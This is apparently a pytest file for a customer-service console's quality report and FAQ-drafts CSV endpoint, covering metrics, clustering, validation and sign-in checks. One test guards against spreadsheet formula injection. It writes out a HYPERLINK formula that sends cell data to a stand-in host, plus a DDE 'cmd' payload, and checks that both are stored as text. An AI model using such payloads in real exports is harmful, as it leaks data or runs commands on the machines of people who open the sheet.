"""The production-quality report and FAQ drafts in the console API, over conversations the
running app held (real assistant, real SQLite): the figures, clustering with the app's own
embedder, the agent's reply offered for a draft, the drafts sheet, and who may ask."""

from __future__ import annotations

import csv
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from assistant.accounts import exchange_today
from assistant.api.deps import Runtime
from assistant.persistence.records import StaffRole
from assistant.settings import PROJECT_ROOT
from knowledge.loaders import load_source
from tests.utils.live_app import AgentClient, LiveApp, app_settings, shared_assistant
from tests.utils.quality import (
    AGENT_REPLY,
    GOLD_AGAIN,
    GOLD_ELSEWHERE,
    GOLD_FIRST,
    QualityWeek,
    converse,
)

AGENT, PASSWORD = "curator.wu", "lotus-harbour-2931"
SAMPLE_KNOWLEDGE = PROJECT_ROOT / "data" / "knowledge"


@dataclass(frozen=True)
class Held:
    app: LiveApp
    week: QualityWeek
    sheet: Path


@pytest.fixture(scope="module")
def held(sample_kb, tmp_path_factory) -> Iterator[Held]:
    state = tmp_path_factory.mktemp("quality-app")
    sheet = state / "curation" / "drafts.csv"
    app = LiveApp(
        app_settings(state, sample_kb.directory, faq_drafts=sheet),
        shared_assistant(sample_kb.directory),
    ).start()

    async def create_agent(runtime: Runtime) -> None:
        # A supervisor: FAQ drafts are a supervisor's (test_roles covers an agent's refusal).
        await runtime.staff.create_account(AGENT, "吴策", PASSWORD, role=StaffRole.SUPERVISOR)

    app.call(create_agent)
    week = converse(app, AGENT, PASSWORD)
    yield Held(app, week, sheet)
    app.stop()


@pytest.fixture
async def agent(held: Held) -> AsyncIterator[AgentClient]:
    client = AgentClient(held.app)
    await client.login(AGENT, PASSWORD)
    yield client
    await client.close()


async def report(agent: AgentClient, **params: Any) -> dict[str, Any]:
    response = await agent.get("/quality", **params)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def sheet_rows(sheet: Path) -> list[list[str]]:
    if not sheet.exists():
        return []
    with sheet.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


async def test_the_report_counts_what_the_service_held(agent: AgentClient, held: Held) -> None:
    body = await report(agent, since="7d")

    assert (body["conversations"], body["engaged_conversations"]) == (3, 3)
    assert (body["contained"], body["containment_rate"]) == (2, pytest.approx(2 / 3))
    assert (body["escalated"], body["escalation_rate"]) == (1, pytest.approx(1 / 3))
    assert body["escalation_reasons"] == [{"name": "low_confidence", "count": 1, "share": 1.0}]
    assert body["turns"] == 4
    assert body["csat"] == {"responses": 2, "mean_score": 3.5, "satisfied_share": 0.5}
    assert body["thumbs"] == {"up": 1, "down": 1, "up_share": 0.5}
    assert body["top_intents"][0] == {"name": "out_of_scope", "count": 3, "share": 0.75}
    assert [i["count"] for i in body["top_intents"]] == [3, 1]
    assert (body["attention_turns"], body["attention_rate"]) == (3, 0.75)


async def test_unanswered_questions_are_clustered_by_meaning_with_the_agents_reply(
    agent: AgentClient, held: Held
) -> None:
    body = await report(agent, since="24h")

    # Three wordings of one question: only an embedder puts them in one cluster.
    [cluster] = body["clusters"]
    assert cluster["count"] == 3
    assert cluster["reasons"] == {"out_of_scope": 2, "low_confidence_handoff": 1}
    asked = {(e["conversation_id"], e["question"]): e["agent_reply"] for e in cluster["examples"]}
    assert asked == {
        (held.week.handed_over, GOLD_FIRST): AGENT_REPLY,
        (held.week.handed_over, GOLD_AGAIN): AGENT_REPLY,
        (held.week.bot_only, GOLD_ELSEWHERE): None,
    }


async def test_top_limits_every_ranking(agent: AgentClient) -> None:
    body = await report(agent, since="30d", top=1)

    assert [i["name"] for i in body["top_intents"]] == ["out_of_scope"]
    assert len(body["clusters"]) == 1


async def test_the_report_lists_the_faq_entries_due_for_review(agent: AgentClient) -> None:
    body = await report(agent, since="7d")

    # Computed from the sample sheets themselves: review_by, else updated_at + 365 days.
    today = exchange_today()

    def due(row: dict[str, str]) -> date | None:
        if row.get("review_by"):
            return date.fromisoformat(row["review_by"])
        if row.get("updated_at"):
            return date.fromisoformat(row["updated_at"]) + timedelta(days=365)
        return None

    overdue = {
        row["id"]: row["question"]
        for sheet in sorted(SAMPLE_KNOWLEDGE.glob("*.csv"))
        for row in csv.DictReader(sheet.read_text(encoding="utf-8-sig").splitlines(keepends=True))
        if (day := due(row)) is not None and day < today
    }
    stale = body["stale_knowledge"]
    assert stale["checked_on"] == today.isoformat()
    assert (stale["max_age_days"], stale["stale_count"]) == (365, len(overdue))
    assert {entry["id"]: entry["title"] for entry in stale["stale"]} == overdue
    dues = [entry["due"] for entry in stale["stale"]]
    assert dues == sorted(dues), "most overdue first"


@pytest.mark.parametrize(
    ("params", "code"),
    [
        ({"since": "7 days"}, "invalid_window"),
        ({"since": "0d"}, "invalid_window"),
        ({"since": "99999999w"}, "invalid_window"),
        ({"top": 0}, "invalid_request"),
        ({"top": 51}, "invalid_request"),
    ],
)
async def test_a_bad_window_or_top_is_refused_with_a_typed_error(
    agent: AgentClient, params: dict[str, Any], code: str
) -> None:
    response = await agent.get("/quality", **params)

    assert response.status_code == 422
    assert response.json()["error"]["code"] == code


async def test_an_agents_reply_becomes_a_row_of_the_drafts_sheet(
    agent: AgentClient, held: Held
) -> None:
    [cluster] = (await report(agent))["clusters"]
    picked = next(e for e in cluster["examples"] if e["question"] == GOLD_FIRST)
    others = [e["question"] for e in cluster["examples"] if e is not picked]
    before = sheet_rows(held.sheet)

    response = await agent.post(
        "/quality/drafts",
        conversation_id=picked["conversation_id"],
        seq=picked["seq"],
        also_asked=others,
    )

    assert response.status_code == 200, response.text
    assert response.json() == {
        "draft": {
            "question": GOLD_FIRST,
            "answer": AGENT_REPLY,
            "similar_questions": [GOLD_AGAIN, GOLD_ELSEWHERE],
            "category": "",  # out of scope: no intent to file it under
            "lang": "zh",
        },
        "sheet": "drafts.csv",
    }
    rows = sheet_rows(held.sheet)
    assert rows[0] == ["question", "answer", "similar_questions", "category", "lang"]
    appended = rows[len(before) if before else 1 :]
    assert appended == [[GOLD_FIRST, AGENT_REPLY, f"{GOLD_AGAIN}|{GOLD_ELSEWHERE}", "", "zh"]]


async def test_a_curator_answers_a_question_no_agent_saw(agent: AgentClient, held: Held) -> None:
    [cluster] = (await report(agent))["clusters"]
    unseen = next(e for e in cluster["examples"] if e["agent_reply"] is None)
    own = "黄金ETF可在证券账户中像股票一样买卖，纸黄金和金条请到银行办理。"

    refused = await agent.post(
        "/quality/drafts", conversation_id=unseen["conversation_id"], seq=unseen["seq"]
    )
    drafted = await agent.post(
        "/quality/drafts",
        conversation_id=unseen["conversation_id"],
        seq=unseen["seq"],
        answer=own,
        category="gold",
    )

    assert refused.status_code == 422
    assert refused.json()["error"]["code"] == "nothing_to_draft"
    assert drafted.status_code == 200, drafted.text
    assert sheet_rows(held.sheet)[-1] == [GOLD_ELSEWHERE, own, "", "gold", "zh"]


async def test_a_drafted_cell_that_would_run_as_a_formula_is_written_as_text(
    agent: AgentClient, held: Held, tmp_path: Path
) -> None:
    """Formula injection (issue 12, finding 9): the curator opens the sheet in Excel."""
    [cluster] = (await report(agent))["clusters"]
    example = cluster["examples"][0]
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
    also_asked = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]

    drafted = await agent.post(
        "/quality/drafts",
        conversation_id=example["conversation_id"],
        seq=example["seq"],
        answer=formula,
        category="=1+1",
        also_asked=also_asked,
    )
    row = sheet_rows(held.sheet)[-1]
    lines = held.sheet.read_text("utf-8").splitlines(keepends=True)
    alone = tmp_path / "drafts.csv"  # this row alone: earlier drafts share its question
    alone.write_text(lines[0] + lines[-1], "utf-8")
    ingested = load_source(alone, "drafts.csv")

    assert drafted.status_code == 200, drafted.text
    assert row[1] == "'" + formula, "no cell starts with = + - @ for a spreadsheet to run"
    assert row[3] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    [unit] = ingested.units
    assert unit.text == formula, "assistant ingest reads the row back as it was written"
    assert unit.category == "=1+1"


async def test_a_draft_from_no_such_conversation_is_not_found(agent: AgentClient) -> None:
    response = await agent.post("/quality/drafts", conversation_id="nope", seq=2, answer="a")

    assert response.status_code == 404
    assert response.json()["error"]["code"] == "not_found"


async def test_the_report_and_drafts_need_a_signed_in_agent(held: Held) -> None:
    draft = {"conversation_id": held.week.handed_over, "seq": 2}
    rows = sheet_rows(held.sheet)
    investor = {"Authorization": f"Bearer {held.app.token('INV-1002')}"}
    async with (
        held.app.http() as anonymous,
        held.app.http(headers=investor) as as_investor,
        held.app.http(cookies={"bd_staff": "forged"}) as forged,
    ):
        responses = [
            await anonymous.get("/api/console/quality"),
            await anonymous.post("/api/console/quality/drafts", json=draft),
            await as_investor.get("/api/console/quality"),
            await as_investor.post("/api/console/quality/drafts", json=draft),
            await forged.get("/api/console/quality"),
        ]

    assert [r.status_code for r in responses] == [401] * 5
    assert {r.json()["error"]["code"] for r in responses} == {"not_signed_in"}
    assert sheet_rows(held.sheet) == rows


async def test_a_signed_out_agent_is_refused(held: Held) -> None:
    client = AgentClient(held.app)
    await client.login(AGENT, PASSWORD)
    cookie = client.http.cookies.get("bd_staff")
    await client.post("/logout")
    await client.close()

    async with held.app.http(cookies={"bd_staff": cookie}) as signed_out:
        response = await signed_out.get("/api/console/quality")

    assert response.status_code == 401
